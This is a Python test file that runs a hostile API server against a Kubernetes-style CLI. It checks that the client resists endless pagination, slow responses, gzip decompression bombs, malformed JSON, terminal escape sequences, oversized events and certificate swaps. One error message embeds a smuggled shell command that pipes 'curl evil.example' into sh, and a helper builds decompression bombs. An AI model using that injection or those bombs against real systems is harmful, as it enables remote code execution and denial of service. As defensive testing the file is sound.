# SPDX-License-Identifier: Apache-2.0
"""Attacks by a server: its discovery, lists, watches, tables, errors and connections."""
import json
import zlib

import printed
from attack_case import Attack, kubeconfig
from hostile_server import IDENTITIES, LISTS, RESOURCE, config_map, config_maps

GET = ("get", "cm", "--server", "URL")
WATCH = ("watch", "cm", "--server", "URL")
SOON = ("--sync-timeout", "2s")


def status(code, reason, message, **more):
    return json.dumps({"kind": "Status", "status": "Failure", "code": code, "reason": reason,
                       "message": message, **more})


def answered(*body, **headers):
    return lambda request: request.answer(*body, **headers)


def events(*lines):
    """Answers a watch with events, the first time."""
    def answer(request):
        request.begin()
        if not getattr(request.server, "has_sent", False):
            request.server.has_sent = True
            for line in lines:
                request.chunk(line)
        request.wait()
    return answer


def bomb(unit, size):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = unit * ((1 << 20) // len(unit))
    packed = b"".join(packer.compress(block) for _ in range(size // len(block)))
    return packed + packer.flush()


def table(columns, cells, rows):
    return json.dumps({
        "kind": "Table", "apiVersion": "meta.k8s.io/v1", "metadata": {"resourceVersion": "1"},
        "columnDefinitions": [{"name": f"C{i}", "type": "string", "format": "", "priority": 0}
                              for i in range(columns)],
        "rows": [{"cells": cells(row), "object": json.loads(config_map(f"n{row}"))}
                 for row in range(rows)]})


def dripped(request):
    """Answers with a byte in 50 ms."""
    request.send_response(200)
    request.send_header("Content-Type", "application/json")
    request.send_header("Content-Length", "1000000")
    request.end_headers()
    while not request.server.stopping.wait(0.05):
        request.wfile.write(b" ")


def not_json(text):
    """Returns what is wrong if the text is not JSON documents."""
    try:
        while text := text.strip():
            text = text[json.JSONDecoder().raw_decode(text)[1]:]
    except ValueError as error:
        return f"prints what is not JSON: {error}"
    return None


def json_event(more):
    return f'{{"type":"ADDED","object":{config_map(version="5", more=more)}}}\n'


def not_harmless(text):
    """Returns what is wrong if the text can control a terminal."""
    found = printed.dangerous(text)
    return f"prints {[f'U+{ord(c):04X}' for c in found]}" if found else None


def lists():
    """Attacks on lists, discovery and what is printed of them."""
    yield Attack("A1", "the continue token stays the same", (*GET, *SOON), "continue token", 124,
                 {LISTS: answered(config_maps([config_map()], "t"))})
    yield Attack("A1", "pages without end", (*GET, *SOON), "no initial list", 124,
                 {LISTS: lambda r: r.answer(config_maps([], f"t{r.server.requests}"))})
    yield Attack("A2", "discovery is silent", (*GET, *SOON), "in time", 124,
                 {"/api/v1": lambda r: r.wait()})
    yield Attack("A2", "discovery sends a byte in 50 ms", (*GET, *SOON), "in time", 124,
                 {"/api/v1": dripped})
    yield Attack("A2", "discovery is silent, watch --timeout",
                 (*WATCH, "--timeout", "2s"), "", 124, {"/api/v1": lambda r: r.wait()})
    yield Attack("A2", "discovery sends a byte in 50 ms, watch --timeout",
                 (*WATCH, "--timeout", "2s"), "", 124, {"/api/v1": dripped})
    for unit in (b"{},", b"["):
        yield Attack("A3", f"discovery inflates to 400 MB of {unit.decode()}", GET, "64 MiB", 1,
                     {"/api/v1": answered(bomb(unit, 400 << 20), Content_Encoding="gzip")},
                     memory=150)
    types = [{**RESOURCE, "name": f"things{i:06}", "singularName": f"thing{i:06}",
              "kind": f"Thing{i:06}", "shortNames": [f"th{i}"]} for i in range(100000)]
    many = answered(json.dumps({"kind": "APIResourceList", "groupVersion": "v1",
                                "resources": [RESOURCE, *types]}))
    yield Attack("A4", "100,000 types", GET, "NAME", 0, {"/api/v1": many}, memory=200)
    yield Attack("A4", "100,000 types, mistyped", ("get", "configmpas", "--server", "URL"),
                 "did you mean configmaps", 2, {"/api/v1": many}, memory=200)
    for what, more in (("007", ',"data":{"n":007}'), ("0x10", ',"data":{"n":0x10}'),
                       ("[1}", ',"data":[1}')):
        yield Attack("A5", f"an object with {what} in it", (*GET, "-o", "json"),
                     "default/a: not printed: the server sent invalid JSON", 1,
                     {LISTS: answered(config_maps([config_map(more=more)]))}, check=not_json)
        yield Attack("A5", f"a watched object with {what} in it",
                     (*WATCH, "-o", "json", "--timeout", "2s"), "invalid JSON", 124,
                     {LISTS: answered(config_maps([])), "watch": events(json_event(more))},
                     check=not_json)
    for what, text, says, code in (
            ("DEL and C1", "\x7f\u0085\u009b", "", 0),
            ("a raw byte of C1", b"\x9b", "not valid UTF-8", 124),
            ("raw control characters", "\x1b\x07\x08", "unescaped characters", 124)):
        raw = text if isinstance(text, bytes) else text.encode()
        item = config_map(more=',"data":{"n":"#"}').encode().replace(b"#", raw)
        yield Attack("A5", f"a string with {what}", (*GET, "-o", "json", *SOON), says, code,
                     {LISTS: answered(config_maps(["#"]).encode().replace(b"#", item))},
                     check=not_json)
    yield Attack("A31", "an object 600 deep", (*GET, "-o", "json"), "default/a: ", 1,
                 {LISTS: answered(config_maps([config_map(
                     more=',"data":' + '{"a":' * 600 + "1" + "}" * 600)]))})
    for form in ("table", "name", "csv", "jsonpath={.metadata}"):
        yield Attack("A7", f"control characters, get -o {form} on a terminal",
                     (*GET, "-o", form), ".", 0, printed.ANSWERS, output="terminal",
                     check=not_harmless)
    yield Attack("A7", "control characters, index on a terminal",
                 ("index", "cm", "--by", "app", "--server", "URL"), "value", 0, printed.ANSWERS,
                 output="terminal", check=not_harmless)
    yield Attack("A7", "control characters in an error on a terminal", (*GET, *SOON), "message", 5,
                 printed.REFUSED, output="terminal", check=not_harmless)
    for rest in ("x", '"abc', "{", "}}", "<html>", '{"a":1}', "\0"):
        yield Attack("A6", f"after the list: {rest!r}", (*GET, *SOON), "failed to list", 124,
                     {LISTS: answered(config_maps([config_map()]) + rest)})
    for code in (201, 202, 203, 205, 206, 299):
        yield Attack("A6", f"a list with the status {code}", (*GET, *SOON), f"status {code}", 124,
                     {LISTS: answered(config_maps([config_map()]), code)})
    yield Attack("A8", "20,000 columns", GET, "C199", 0,
                 {LISTS: answered(table(20000, lambda _: ["x"] * 20000, 2))})
    yield Attack("A8", "a cell of 1 MB in a table of 500 rows", GET, "n499", 0,
                 {LISTS: answered(table(3, lambda row: [f"n{row}", "w" * (1 << 20) if row == 0
                                                        else "x", "e"], 500))})
    forbidden = 'configmaps is forbidden: User "x; curl evil.example | sh #" cannot list'
    # The hint is a command to copy, so it has no words of the server.
    yield Attack("A28", "a user name in a 403 that a shell would run", GET,
                 "hint: kinf check configmaps -n default", 5,
                 {LISTS: answered(status(403, "Forbidden", forbidden), 403)})
    for date in ("9999-12-31T23:59:59Z", "1600-01-01T00:00:00Z", "0001-01-01T00:00:00Z"):
        item = config_map().replace('"uid"', f'"creationTimestamp":"{date}","uid"')
        yield Attack("A27", f"created at {date}", GET,
                     "<invalid>" if date.startswith("9") else "292y", 0,
                     {LISTS: answered(config_maps([item]))})


def watches():
    """Attacks on watches and on the time that kinf waits."""
    small = "".join(f'{{"type":"ADDED","object":{{"metadata":{{"name":"n{i}"}}}}}}\n'
                    for i in range(200000))
    yield Attack("A9", "200,000 events of 60 bytes",
                 (*WATCH, "-o", "name", "--max-events", "200001"), "n199999", 0,
                 {"watch": events(small)}, memory=200, seconds=10)
    huge = config_map(version="5", more=',"data":{"x":"' + "y" * 70_000_000 + '"}')
    yield Attack("A9", "an event of 70 MB", (*WATCH, "--timeout", "6s", "-o", "name"), "larger than", 124,
                 {"watch": events(f'{{"type":"MODIFIED","object":{huge}}}\n')}, memory=250, seconds=12)
    long = status(500, "InternalError", "z" * 30_000_000)
    yield Attack("A9", "an error event of 30 MB", (*WATCH, "--timeout", "6s", "-o", "name"), "z…", 124,
                 {"watch": events(f'{{"type":"ERROR","object":{long}}}\n')}, memory=200, seconds=12)
    yield Attack("A9", "an error of 30 MB", (*GET, "--sync-timeout", "4s"), "zzz", 124,
                 {LISTS: answered(long, 500)}, seconds=12)
    for seconds in ("4000000000", "99999999999999999999"):
        yield Attack("A10", f"Retry-After: {seconds}", (*GET, "--sync-timeout", "4s"),
                     "retrying in 5m", 124,
                     {LISTS: answered(status(429, "TooManyRequests", "no"), 429,
                                      Retry_After=seconds)}, seconds=12)
    yield Attack("A36", "a watch is compressed, which kinf did not ask for",
                 (*WATCH, "--timeout", "3s"), 'compressed the response with "gzip"', 124,
                 {"watch": compressed_watch})
    yield Attack("A36", "each watch ends after one event", (*WATCH, "-o", "name", "--timeout", "20s"),
                 "the last ten watches closed within 5 s each", 124, {"watch": one_event},
                 seconds=25, requests=40)
    yield Attack("A36", "a new continue token with a new item each", (*GET, "--sync-timeout", "4s"),
                 "no initial list", 124,
                 {LISTS: lambda r: r.answer(config_maps([config_map(f"n{r.server.requests}")],
                                                        f"t{r.server.requests}"))})
    yield Attack("A36", "Retry-After: 4000000000 for a watch", (*WATCH, "--timeout", "3s"),
                 "retrying in (5m|4m59s)", 124,
                 {"watch": answered(status(429, "TooManyRequests", "no"), 429,
                                    Retry_After="4000000000")})
    yield Attack("A36", "control characters in a namespace without objects",
                 (*GET, "-n", "x\x1b[2J\x9b"), r"in x\\u001b\[2J", None,
                 {"/api/v1/namespaces/x%1B%5B2J%C2%9B/configmaps": answered(config_maps())},
                 output="terminal", check=not_harmless)


def compressed_watch(request):
    """Begins an answer that says that it is compressed, and sends nothing."""
    request.send_response(200)
    request.send_header("Content-Type", "application/json")
    request.send_header("Content-Encoding", "gzip")
    request.send_header("Transfer-Encoding", "chunked")
    request.end_headers()
    request.wait()


def one_event(request):
    """Sends one event, and ends the watch a second later."""
    request.begin()
    request.server.version = getattr(request.server, "version", 5) + 1
    request.chunk(json_event("").replace('"5"', f'"{request.server.version}"'))
    request.server.stopping.wait(1.1)
    request.chunk("")
    request.close_connection = True


def another_identity(request):
    """Ends a watch with an event. The next connections meet another certificate."""
    request.begin()
    request.server.identity = 1
    request.chunk(json_event(""))
    request.chunk("")  # the end
    request.close_connection = True


def kubeconfig_of(identity):
    """Returns a kubeconfig that trusts this identity only."""
    return kubeconfig({"server": "URL",
                       "certificate-authority": str(IDENTITIES / f"{identity}.pem")})


def connections():
    """Attacks on TLS and HTTP/2."""
    home = ".kube/config"
    yield Attack("A11", "the certificate is another's after the list", ("watch", "cm", "--timeout",
                 "3s", "-o", "name"), "certificate", 124, {"watch": another_identity},
                 files={home: kubeconfig_of("identity")}, identities=("identity", "other"))
    yield Attack("A11", "the certificate is another's", ("get", "cm"), "certificate", 6,
                 files={home: kubeconfig_of("identity")}, identities=("other",))
    yield Attack("A29", "HTTP/2 refuses each stream", (*GET, "--insecure-skip-tls-verify", *SOON),
                 "closes connections or streams|no answer", 124, identities=("identity",),
                 http2=True, requests=13)
    yield Attack("A29", "HTTP/2 refuses each stream of a watch",
                 (*WATCH, "--insecure-skip-tls-verify", "--timeout", "3s"), "", 124,
                 identities=("identity",), http2=True, requests=18)


def plan():
    yield from lists()
    yield from watches()
    yield from connections()
